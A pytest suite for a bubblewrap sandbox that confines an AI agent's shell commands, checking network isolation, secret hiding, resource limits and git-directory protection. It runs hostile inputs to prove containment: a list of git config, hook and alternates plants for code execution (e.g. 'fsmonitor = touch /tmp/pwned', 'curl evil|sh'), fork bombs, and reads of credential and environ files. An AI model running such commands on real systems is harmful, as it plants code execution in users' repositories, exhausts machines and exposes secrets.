"""The bubblewrap sandboxes (agent/host/sandbox.py): what a command or the agent can do."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent.errors import SandboxError
from agent.host.sandbox import SANDBOX_HOME, Limits, Sandbox, check_workspace, scrubbed_env

HAS_PY = shutil.which("python3", path="/usr/bin:/bin") is not None
FAST = Limits(cpu_seconds=2, wall_seconds=20, output_bytes=4096, max_processes=32)


@pytest.fixture(scope="module")
def sandbox() -> Sandbox:
    sb = Sandbox.detect()
    if not sb.available:
        pytest.skip("bubblewrap is not available or cannot create namespaces here")
    return sb


@pytest.fixture
def repo(workspace: Path) -> Path:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "config").write_text("[core]\n")
    (workspace / "file.txt").write_text("in the workspace\n")
    return workspace


@pytest.fixture
def listener() -> Iterator[int]:
    """A TCP server on the host's loopback, to show the sandbox cannot reach it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(0.05)
    accepted: list[bool] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            accepted.append(True)
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1]
    stop.set()
    thread.join(timeout=5)
    server.close()
    assert not accepted, "the sandbox reached a host loopback port"


def test_scrubbed_env_is_an_allowlist(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_canary")
    monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/0/bus")
    monkeypatch.setenv("XDG_RUNTIME_DIR", "/run/user/0")
    monkeypatch.setenv("PYTHONPATH", "/evil")
    monkeypatch.setenv("LC_ALL", "C.UTF-8")
    env = scrubbed_env()
    assert env["HOME"] == SANDBOX_HOME
    assert env["PATH"] == "/usr/local/bin:/usr/bin:/bin"
    assert env["LC_ALL"] == "C.UTF-8"
    for name in ("GITHUB_TOKEN", "DBUS_SESSION_BUS_ADDRESS", "XDG_RUNTIME_DIR", "PYTHONPATH"):
        assert name not in env
    assert "ghp_canary" not in json.dumps(env)


def test_workspace_must_not_contain_home(tmp_path: Path) -> None:
    with pytest.raises(SandboxError, match="contains the home directory"):
        check_workspace(Path("/"))
    with pytest.raises(SandboxError, match="contains the home directory"):
        check_workspace(Path.home())
    with pytest.raises(SandboxError, match="not a directory"):
        check_workspace(tmp_path / "missing")


def test_without_bwrap_nothing_is_built(workspace: Path) -> None:
    none = Sandbox(None)
    assert not none.available
    with pytest.raises(SandboxError, match="bubblewrap is not available"):
        none.shell_argv("true", workspace, FAST)
    with pytest.raises(SandboxError, match="bubblewrap is not available"):
        none.agent_command(["python"])


@pytest.mark.bwrap
def test_shell_runs_in_the_workspace(sandbox: Sandbox, repo: Path) -> None:
    result = sandbox.run_shell("pwd; cat file.txt; echo out > made.txt", repo, FAST)
    assert result.exit_code == 0 and result.limit_hit is None and result.sandboxed
    assert result.output == f"{repo.resolve()}\nin the workspace\n"
    assert (repo / "made.txt").read_text() == "out\n"


@pytest.mark.bwrap
@pytest.mark.skipif(not HAS_PY, reason="needs /usr/bin/python3 inside the sandbox")
def test_network_is_unreachable(sandbox: Sandbox, workspace: Path, listener: int) -> None:
    code = (
        "import socket\n"
        f"for addr in [('127.0.0.1', {listener}), ('1.1.1.1', 53)]:\n"
        "    try:\n"
        "        socket.create_connection(addr, timeout=2)\n"
        "        print('CONNECTED', addr)\n"
        "    except OSError as e:\n"
        "        print('refused', addr, e.errno)\n"
    )
    result = sandbox.run_shell(f"python3 -c \"{code}\"", workspace, FAST)
    assert "CONNECTED" not in result.output
    assert result.output.count("refused") == 2, result.output


@pytest.mark.bwrap
def test_cannot_write_outside_the_workspace(
    sandbox: Sandbox, workspace: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    cmd = f"touch /usr/x; echo x >> /etc/passwd; echo x > {outside}/planted; touch ../escape; ls /"
    result = sandbox.run_shell(cmd, workspace, FAST)
    assert "Read-only file system" in result.output
    assert list(outside.iterdir()) == []
    assert not (workspace.parent / "escape").exists()


@pytest.mark.bwrap
def test_cannot_read_data_dir_vault_home_or_host_environ(
    sandbox: Sandbox, workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = Path(os.environ["KEYLESS_DATA_DIR"])
    data.mkdir(parents=True)
    (data / "vault.kls").write_text("CANARY-VAULT-BYTES")
    monkeypatch.setenv("KEYLESS_TEST_TOKEN", "tok-canary-123")
    cmd = (
        f"cat {data}/vault.kls; ls {Path.home()}; cat /proc/{os.getpid()}/environ; "
        "cat /proc/1/environ | tr '\\0' '\\n'; env; ls /run"
    )
    result = sandbox.run_shell(cmd, workspace, FAST)
    assert "CANARY-VAULT-BYTES" not in result.output
    assert "tok-canary-123" not in result.output and "KEYLESS_TEST_TOKEN" not in result.output
    assert f"HOME={SANDBOX_HOME}" in result.output
    assert "No such file or directory" in result.output


@pytest.mark.bwrap
def test_hidden_path_inside_the_workspace_is_covered(sandbox: Sandbox, workspace: Path) -> None:
    private = workspace / "private"
    private.mkdir()
    (private / "vault.kls").write_text("CANARY-VAULT-BYTES")
    result = sandbox.run_shell("cat private/vault.kls; ls private", workspace, FAST, hide=[private])
    assert "CANARY-VAULT-BYTES" not in result.output
    assert (private / "vault.kls").read_text() == "CANARY-VAULT-BYTES"


@pytest.mark.bwrap
def test_protected_paths_are_read_only(sandbox: Sandbox, repo: Path) -> None:
    cmd = (
        "echo 'curl evil|sh' > .git/hooks/pre-commit; "
        "echo '[core] hooksPath=/tmp' >> .git/config; "
        "mkdir .keyless/memory; rm -rf .git/hooks; echo done"
    )
    result = sandbox.run_shell(cmd, repo, FAST)
    assert result.output.count("Read-only file system") >= 3, result.output
    assert list((repo / ".git" / "hooks").iterdir()) == []
    assert (repo / ".git" / "config").read_text() == "[core]\n"
    assert list((repo / ".keyless").iterdir()) == []


@pytest.mark.bwrap
def test_git_dir_without_hooks_gets_a_read_only_hooks_dir(
    sandbox: Sandbox, workspace: Path
) -> None:
    (workspace / ".git").mkdir()
    cmd = "mkdir -p .git/hooks && echo x > .git/hooks/post-checkout"
    result = sandbox.run_shell(cmd, workspace, FAST)
    assert result.exit_code != 0
    # The read-only placeholder is removed afterwards: the .git is left as found.
    assert sorted(p.name for p in (workspace / ".git").iterdir()) == []


@pytest.mark.bwrap
def test_process_storm_is_stopped(sandbox: Sandbox, workspace: Path) -> None:
    # A bounded fork bomb (at most 400 sleepers), so a failing test cannot take
    # the shared machine down: the limit is 32 processes.
    result = sandbox.run_shell("for i in $(seq 400); do sleep 30 & done; wait", workspace, FAST)
    assert result.limit_hit == "processes" or "Resource temporarily unavailable" in result.output
    assert result.duration_s < FAST.wall_seconds


@pytest.mark.bwrap
def test_endless_loop_hits_the_cpu_limit(sandbox: Sandbox, workspace: Path) -> None:
    limits = Limits(cpu_seconds=1, wall_seconds=20)
    result = sandbox.run_shell("while :; do :; done", workspace, limits)
    assert result.limit_hit == "cpu"
    assert result.describe().startswith("killed: cpu limit reached")


@pytest.mark.bwrap
def test_sleeper_hits_the_wall_clock_limit(sandbox: Sandbox, workspace: Path) -> None:
    limits = Limits(wall_seconds=0.5)
    result = sandbox.run_shell("sleep 30 & sleep 30", workspace, limits)
    assert result.limit_hit == "wall-clock"
    assert result.duration_s < 5


@pytest.mark.bwrap
@pytest.mark.skipif(not HAS_PY, reason="needs /usr/bin/python3 inside the sandbox")
def test_memory_hog_is_refused(sandbox: Sandbox, workspace: Path) -> None:
    limits = Limits(memory_bytes=512 * 1024**2, wall_seconds=20)
    result = sandbox.run_shell("python3 -c 'b = bytearray(2 * 1024**3)'", workspace, limits)
    assert result.exit_code != 0
    assert "MemoryError" in result.output


@pytest.mark.bwrap
def test_huge_output_is_capped_and_drained(sandbox: Sandbox, workspace: Path) -> None:
    limits = Limits(output_bytes=1000, drain_bytes=1024 * 1024, wall_seconds=20)
    result = sandbox.run_shell("seq 1 100000", workspace, limits)
    assert result.exit_code == 0 and result.truncated and result.output_bytes == 588895
    assert len(result.output) == 1000
    assert result.describe().endswith("[truncated output: 587895 more bytes not shown]")
    endless = sandbox.run_shell("cat /dev/zero", workspace, limits)
    assert endless.limit_hit == "output" and endless.truncated


@pytest.mark.bwrap
def test_agent_command_isolates_the_worker(
    sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listener: int
) -> None:
    data = Path(os.environ["KEYLESS_DATA_DIR"])
    data.mkdir(parents=True)
    (data / "vault.kls").write_text("CANARY-VAULT-BYTES")
    bundle = tmp_path / "bundle"
    (bundle / "data").mkdir(parents=True)
    (bundle / "model.gguf").write_text("model")
    (bundle / "data" / "vault.kls").write_text("CANARY-VAULT-BYTES")
    monkeypatch.setenv("KEYLESS_TEST_TOKEN", "tok-canary-123")
    probe = f"""
import json, os, socket
def attempt(fn):
    try:
        return repr(fn())[:80]
    except Exception as e:
        return "refused: " + type(e).__name__
import agent.host.tools.registry
out = {{
    "env": dict(os.environ),
    "vault": attempt(lambda: open({str(data / "vault.kls")!r}).read()),
    "hidden": attempt(lambda: open({str(bundle / "data" / "vault.kls")!r}).read()),
    "model": attempt(lambda: open({str(bundle / "model.gguf")!r}).read()),
    "home": attempt(lambda: os.listdir(os.path.expanduser("~"))),
    "real_home": attempt(lambda: os.listdir({str(Path.home() / ".ssh")!r})),
    "run": attempt(lambda: os.listdir("/run")),
    "net": attempt(lambda: socket.create_connection(("127.0.0.1", {listener}), timeout=2)),
    "write_prefix": attempt(lambda: open({sys.prefix!r} + "/planted", "w")),
    "tools": len(agent.host.tools.registry.ALL_TOOLS),
}}
print(json.dumps(out))
"""
    argv = sandbox.agent_command(
        [sys.executable, "-c", probe],
        workspace=tmp_path,
        extra_ro_binds=[bundle],
        hide=[bundle / "data", data],
    )
    for flag in ("--unshare-net", "--unshare-pid", "--die-with-parent", "--clearenv"):
        assert flag in argv
    done = subprocess.run(argv, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    seen = json.loads(done.stdout)
    assert seen["tools"] == 11
    assert "KEYLESS_TEST_TOKEN" not in seen["env"] and "XDG_RUNTIME_DIR" not in seen["env"]
    assert seen["env"]["HOME"] == SANDBOX_HOME
    assert seen["vault"].startswith("refused") and seen["hidden"].startswith("refused")
    assert seen["model"] == "'model'"
    assert seen["home"] == "[]"
    assert seen["real_home"].startswith("refused") and seen["run"].startswith("refused")
    assert seen["net"].startswith("refused") and seen["write_prefix"].startswith("refused")
    assert "CANARY" not in done.stdout + done.stderr


@pytest.mark.bwrap
def test_agent_command_refuses_to_expose_home(sandbox: Sandbox) -> None:
    with pytest.raises(SandboxError, match="refusing to expose"):
        sandbox.agent_command(["python"], extra_ro_binds=[Path.home()])


@pytest.mark.bwrap
def test_repository_created_by_a_command_is_quarantined(sandbox: Sandbox, workspace: Path) -> None:
    cmd = "mkdir -p .git && printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config"
    result = sandbox.run_shell(cmd, workspace, FAST)
    assert not (workspace / ".git").exists()
    moved = list((workspace / ".keyless" / "quarantine").iterdir())
    assert len(moved) == 1 and (moved[0] / "config").read_text().startswith("[core]")
    assert "[.git created by the command was moved to .keyless/quarantine/git-" in result.describe()


@pytest.mark.bwrap
def test_a_repository_made_between_two_commands_is_protected_not_quarantined(
    sandbox: Sandbox, workspace: Path
) -> None:
    ws = check_workspace(workspace)
    (ws / "sub").mkdir()
    sandbox.run_shell("true", ws, FAST)
    last = sandbox.last_git_scan(ws)
    assert last is not None and last.ws == ws and not last.entries
    (ws / "sub" / ".git" / "hooks").mkdir(parents=True)  # the user's `git init` meanwhile
    result = sandbox.run_shell("echo x > sub/.git/hooks/pre-commit", ws, FAST)
    assert result.exit_code != 0
    assert list((ws / "sub" / ".git" / "hooks").iterdir()) == []
    assert "quarantine" not in result.describe()
    last = sandbox.last_git_scan(ws)
    assert last is not None and set(last.entries) == {ws / "sub" / ".git"}


@pytest.mark.bwrap
def test_submodule_git_dirs_are_read_only(sandbox: Sandbox, repo: Path) -> None:
    (repo / ".git" / "modules" / "sub" / "hooks").mkdir(parents=True)
    result = sandbox.run_shell("echo x > .git/modules/sub/hooks/post-checkout", repo, FAST)
    assert "Read-only file system" in result.output
    assert list((repo / ".git" / "modules" / "sub" / "hooks").iterdir()) == []


def _root_without_pids_cgroup() -> bool:
    if os.geteuid() != 0:
        return False
    from agent.host.sandbox import _PidsCgroup

    probe = _PidsCgroup.create(8)
    if probe is None:
        return True
    probe.destroy()
    return False


@pytest.mark.bwrap
@pytest.mark.skipif(
    _root_without_pids_cgroup(),
    reason="root without a writable pids cgroup: only the watchdog stands between a real fork "
    "bomb and the machine (it lost that race once under load), so the bomb is not run here",
)
def test_real_fork_bomb_is_contained(sandbox: Sandbox, workspace: Path) -> None:
    limits = Limits(max_processes=32, wall_seconds=4, cpu_seconds=2)
    result = sandbox.run_shell("bomb() { bomb | bomb & }; bomb; sleep 30", workspace, limits)
    # Root: the supervisor's process count; other users: RLIMIT_NPROC in the
    # sandbox's user namespace makes fork fail, then the wall clock ends it.
    assert result.limit_hit in ("processes", "wall-clock")
    assert result.duration_s < 10


@pytest.mark.bwrap
def test_ram_backed_dirs_are_small_or_read_only(sandbox: Sandbox, workspace: Path) -> None:
    cmd = (
        "echo ok > /dev/null && echo null-writable; touch /dev/planted; "
        "head -c 100000000 /dev/zero > /dev/shm/big; head -c 100000000 /dev/zero > /tmp/big; "
        "du -sk /dev/shm /tmp"
    )
    result = sandbox.run_shell(cmd, workspace, FAST)
    assert "null-writable" in result.output
    assert "/dev/planted': Read-only file system" in result.output
    assert result.output.count("No space left on device") == 2


@pytest.mark.bwrap
def test_dev_is_sealed_after_the_device_binds(sandbox: Sandbox) -> None:
    argv = sandbox.agent_command(["python"])
    sealed = argv.index("--remount-ro")
    assert argv[sealed + 1] == "/dev"
    binds = [i for i, a in enumerate(argv) if a == "--dev-bind-try"]
    assert binds and max(binds) < sealed


@pytest.mark.bwrap
@pytest.mark.skipif(os.geteuid() != 0, reason="the pids cgroup is the root-only defence")
def test_root_fork_bomb_is_stopped_by_the_kernel_pids_limit(
    sandbox: Sandbox, workspace: Path
) -> None:
    from agent.host.sandbox import _PidsCgroup

    probe = _PidsCgroup.create(8)
    if probe is None:
        pytest.skip("no writable pids cgroup on this machine")
    probe.destroy()
    limits = Limits(max_processes=16, wall_seconds=10, cpu_seconds=5)
    # `wait` would return as soon as the first pipeline's shells have put their
    # own bombs in the background: on a loaded machine, before the limit is hit.
    result = sandbox.run_shell("bomb() { bomb | bomb & }; bomb; sleep 2", workspace, limits)
    assert result.limit_hit == "processes"
    assert "fork" in result.output.lower()  # fork failed in the kernel, not killed late
    # Nothing of the bomb survives: every sandbox cgroup left is empty (its
    # directory is removed once the kernel has reaped the last process).
    def survivors() -> int:
        left = [p for p in probe.path.parent.iterdir() if p.name.startswith("keyless-sandbox-")]
        return sum(len((p / "cgroup.procs").read_text().split()) for p in left if p.exists())

    deadline = time.monotonic() + 5
    while survivors() and time.monotonic() < deadline:
        time.sleep(0.02)  # SIGKILLed processes leave the cgroup when the kernel reaps them
    assert survivors() == 0


@pytest.mark.bwrap
def test_git_dir_cannot_be_swapped_for_one_with_writable_hooks(
    sandbox: Sandbox, repo: Path
) -> None:
    # Renaming .git (it only *contains* mount points) and building a fresh one
    # would give the command writable hooks and config for the user's next git run.
    cmd = (
        "mv .git .gitold; rm -rf .git; mkdir -p .git/hooks; "
        "echo evil > .git/hooks/pre-commit; echo '[core] fsmonitor=evil' > .git/config; echo done"
    )
    result = sandbox.run_shell(cmd, repo, FAST)
    assert "done" in result.output
    assert not (repo / ".gitold").exists()
    assert list((repo / ".git" / "hooks").iterdir()) == []
    assert (repo / ".git" / "config").read_text() == "[core]\n"


@pytest.mark.bwrap
def test_git_file_cannot_be_swapped_for_a_git_dir(sandbox: Sandbox, workspace: Path) -> None:
    (workspace / ".git").write_text("gitdir: ../elsewhere\n")
    cmd = "rm -f .git; mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; echo done"
    result = sandbox.run_shell(cmd, workspace, FAST)
    assert "done" in result.output
    assert (workspace / ".git").read_text() == "gitdir: ../elsewhere\n"


@pytest.mark.bwrap
def test_git_commondir_cannot_be_written_by_a_command(sandbox: Sandbox, repo: Path) -> None:
    (repo / "evil").mkdir()
    result = sandbox.run_shell("echo ../evil > .git/commondir; echo done", repo, FAST)
    assert "done" in result.output and "Read-only file system" in result.output
    assert not (repo / ".git" / "commondir").exists()


@pytest.mark.bwrap
def test_existing_git_commondir_is_read_only(sandbox: Sandbox, repo: Path) -> None:
    (repo / ".git" / "commondir").write_text("../main/.git\n")
    sandbox.run_shell("echo ../evil > .git/commondir; rm -f .git/commondir", repo, FAST)
    assert (repo / ".git" / "commondir").read_text() == "../main/.git\n"


def test_unsandboxed_home_is_private_and_fresh(workspace: Path) -> None:
    # Outside bubblewrap /tmp is shared with every local user: a fixed
    # HOME=/tmp/home there could hold someone else's .gitconfig (core.fsmonitor).
    from agent.host.sandbox import run_unsandboxed

    cmd = 'echo "$HOME"; stat -c %a "$HOME"; ls -A "$HOME" | wc -l'
    first = run_unsandboxed(cmd, workspace, FAST).output.split()
    second = run_unsandboxed(cmd, workspace, FAST).output.split()
    assert first[0] != SANDBOX_HOME and first[0] != second[0]
    assert first[1:] == ["700", "0"]
    assert not os.path.exists(first[0])  # removed afterwards


@pytest.mark.bwrap
def test_symlinked_git_dir_replaced_by_a_command_is_quarantined(
    sandbox: Sandbox, workspace: Path
) -> None:
    real = workspace / "gitdir"
    (real / "hooks").mkdir(parents=True)
    (real / "config").write_text("[core]\n")
    os.symlink("gitdir", workspace / ".git")
    cmd = "rm .git; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; echo done"
    result = sandbox.run_shell(cmd, workspace, FAST)
    assert "done" in result.output
    assert not os.path.lexists(workspace / ".git")  # the swapped-in one is moved away
    assert any(".git" in note for note in result.notes)


# -- git directories: every entry that runs code, existing or not -------------------------------

#: What a command writes into a git directory so that git runs it on the host.
PLANTS = {
    "config": "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > {g}/config",
    "config.worktree": "printf '[core]\\n\\tfsmonitor = evil\\n' > {g}/config.worktree",
    "hooks": "mkdir -p {g}/hooks && echo evil > {g}/hooks/post-checkout",
    "info": "mkdir -p {g}/info && echo '* filter=evil' > {g}/info/attributes",
    "commondir": "echo ../evil > {g}/commondir",
    "modules": "mkdir -p {g}/modules/sub && echo '[core] fsmonitor=evil' > {g}/modules/sub/config",
    "worktrees": "mkdir -p {g}/worktrees/w && echo ../evil > {g}/worktrees/w/commondir",
    "alternates": "mkdir -p {g}/objects/info && echo /evil > {g}/objects/info/alternates",
}


def _plant_all(g: str) -> str:
    return "; ".join(cmd.format(g=g) for cmd in PLANTS.values()) + "; echo done"


def _planted(git_dir: Path, original: dict[str, str] | None = None) -> list[str]:
    """The planted things that survived in ``git_dir`` (files other than ``original``)."""
    original = original or {}
    found = []
    for rel in (
        "config",
        "config.worktree",
        "hooks/post-checkout",
        "info/attributes",
        "commondir",
        "modules/sub/config",
        "worktrees/w/commondir",
        "objects/info/alternates",
    ):
        path = git_dir / rel
        if path.exists() and path.read_text().strip() and path.read_text() != original.get(rel):
            found.append(rel)
    return found


@pytest.mark.bwrap
def test_git_dir_without_config_cannot_be_given_one(sandbox: Sandbox, workspace: Path) -> None:
    # The reported attack: .git exists but has no config yet; the command
    # writes config (core.fsmonitor), HEAD, objects and refs, and the user's
    # next `git status` runs the fsmonitor command.
    (workspace / ".git").mkdir()
    cmd = (
        "printf '[core]\\n\\tfsmonitor = touch pwned\\n' > .git/config; "
        "echo 'ref: refs/heads/main' > .git/HEAD; mkdir -p .git/objects .git/refs; echo done"
    )
    result = sandbox.run_shell(cmd, workspace, FAST)
    assert "done" in result.output and "Read-only file system" in result.output
    assert not (workspace / ".git" / "config").exists()  # the placeholder is gone too
    assert (workspace / ".git" / "HEAD").exists()  # ordinary repository data is the command's


@pytest.mark.bwrap
@pytest.mark.parametrize("state", ["empty", "full"])
def test_every_code_running_git_entry_is_read_only(
    sandbox: Sandbox, workspace: Path, state: str
) -> None:
    git = workspace / ".git"
    git.mkdir()
    if state == "full":
        for sub in ("hooks", "info", "modules", "worktrees", "objects/info"):
            (git / sub).mkdir(parents=True)
        (git / "config").write_text("[core]\n")
    result = sandbox.run_shell(_plant_all(".git"), workspace, FAST)
    assert "done" in result.output
    assert _planted(git, {"config": "[core]\n"}) == []
    if state == "empty":
        assert sorted(p.name for p in git.iterdir()) == []  # placeholders removed


@pytest.mark.bwrap
def test_nested_repository_entries_are_read_only(sandbox: Sandbox, repo: Path) -> None:
    nested = repo / "vendor" / "lib" / ".git"
    nested.mkdir(parents=True)
    (nested / "HEAD").write_text("ref: refs/heads/main\n")
    result = sandbox.run_shell(_plant_all("vendor/lib/.git"), repo, FAST)
    assert "done" in result.output
    assert _planted(nested) == []
    assert _planted(repo / ".git", {"config": "[core]\n"}) == []


@pytest.mark.bwrap
def test_nested_repository_created_by_a_command_is_quarantined(
    sandbox: Sandbox, repo: Path
) -> None:
    # git status in the parent runs `git status` inside a submodule, which
    # would read the planted config; a .git file may point anywhere.
    cmd = (
        "mkdir -p sub/.git deep/er && printf '[core]\\n\\tfsmonitor = evil\\n' > sub/.git/config"
        " && echo 'gitdir: ../../elsewhere' > deep/er/.git && echo done"
    )
    result = sandbox.run_shell(cmd, repo, FAST)
    assert "done" in result.output
    assert not os.path.lexists(repo / "sub" / ".git")
    assert not os.path.lexists(repo / "deep" / "er" / ".git")
    assert len(list((repo / ".keyless" / "quarantine").iterdir())) == 2
    assert any(n.startswith("sub/.git created by the command") for n in result.notes)


@pytest.mark.bwrap
def test_renamed_parents_do_not_reopen_git_entries(sandbox: Sandbox, repo: Path) -> None:
    # Directories holding a protected entry are pinned (a mount point cannot
    # be renamed), so the command cannot move one aside and build another.
    (repo / ".git" / "objects" / "info").mkdir(parents=True)
    cmd = (
        "mv .git/objects .git/o2; mv .git/objects/info .git/objects/i2; "
        "mkdir -p .git/objects/info; echo /evil > .git/objects/info/alternates; "
        "mv .git/hooks .git/h2; mkdir .git/hooks; echo evil > .git/hooks/pre-commit; echo done"
    )
    result = sandbox.run_shell(cmd, repo, FAST)
    assert "done" in result.output
    assert _planted(repo / ".git", {"config": "[core]\n"}) == []
    assert not (repo / ".git" / "o2").exists() and not (repo / ".git" / "h2").exists()


@pytest.mark.bwrap
def test_hooks_path_inside_the_workspace_is_read_only(sandbox: Sandbox, repo: Path) -> None:
    # husky and friends set core.hooksPath to a workspace directory: a hook
    # written there runs on the user's next commit, existing directory or not.
    (repo / ".git" / "config").write_text("[core]\n\thooksPath = .husky/_\n")
    cmd = "mkdir -p .husky/_ && echo evil > .husky/_/pre-commit; echo done"
    result = sandbox.run_shell(cmd, repo, FAST)
    assert "done" in result.output
    assert not (repo / ".husky" / "_" / "pre-commit").exists()
    assert not (repo / ".husky").exists()  # the placeholders are removed


@pytest.mark.bwrap
def test_git_dir_named_by_a_git_file_inside_the_workspace_is_protected(
    sandbox: Sandbox, workspace: Path
) -> None:
    real = workspace / "store" / "repo.git"
    real.mkdir(parents=True)
    (workspace / ".git").write_text("gitdir: store/repo.git\n")
    result = sandbox.run_shell(_plant_all("store/repo.git"), workspace, FAST)
    assert "done" in result.output
    assert _planted(real) == []


@pytest.mark.bwrap
def test_the_agent_may_write_only_its_state_directory_even_inside_a_hidden_one(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    bundle = tmp_path / "bundle"
    state = bundle / "data" / "kvstate" / "s1"
    state.mkdir(parents=True)
    (bundle / "data" / "vault.kls").write_text("CANARY-VAULT-BYTES")
    (bundle / "data" / "kvstate" / "s2").mkdir()
    probe = f"""
import json
def attempt(fn):
    try:
        fn()
        return "ok"
    except Exception as e:
        return "refused: " + type(e).__name__
print(json.dumps({{
    "own": attempt(lambda: open({str(state / "state.kvstate")!r}, "w").write("x")),
    "other": attempt(lambda: open({str(bundle / "data" / "kvstate" / "s2" / "f")!r}, "w")),
    "beside": attempt(lambda: open({str(bundle / "data" / "new")!r}, "w")),
    "vault": attempt(lambda: open({str(bundle / "data" / "vault.kls")!r}).read()),
}}))
"""
    argv = sandbox.agent_command(
        [sys.executable, "-c", probe],
        extra_ro_binds=[bundle],
        hide=[bundle / "data"],
        extra_rw_binds=[state],
    )
    done = subprocess.run(argv, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    seen = json.loads(done.stdout)
    assert seen["own"] == "ok" and (state / "state.kvstate").read_text() == "x"
    assert seen["other"].startswith("refused") and seen["beside"].startswith("refused")
    assert seen["vault"].startswith("refused")
    with pytest.raises(SandboxError, match="refusing to let"):
        sandbox.agent_command([sys.executable], extra_rw_binds=[Path.home()])


def test_cgroups_left_for_later_are_removed_once_when_sandboxes_end_at_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Two errands' shell commands end at the same moment: each sweeps the
    # cgroups still being reaped. A directory both threads saw must be removed
    # and forgotten once, not raise in the second (it ended an errand).
    from agent.host import sandbox as sandbox_module

    pending: list[Path] = []
    monkeypatch.setattr(sandbox_module, "_PENDING", pending)
    failures: list[BaseException] = []
    threads = 8
    start = threading.Barrier(threads)

    def sweep(me: int) -> None:
        try:
            start.wait()
            for i in range(100):
                path = tmp_path / f"cg-{me}-{i}"
                path.mkdir()
                sandbox_module._PidsCgroup(path).destroy()  # no cgroup.procs: nothing to kill
        except BaseException as e:  # noqa: BLE001 (reported below)
            failures.append(e)

    workers = [threading.Thread(target=sweep, args=(n,)) for n in range(threads)]
    for w in workers:
        w.start()
    for w in workers:
        w.join(60)
    assert failures == []
    assert pending == [] and list(tmp_path.iterdir()) == []
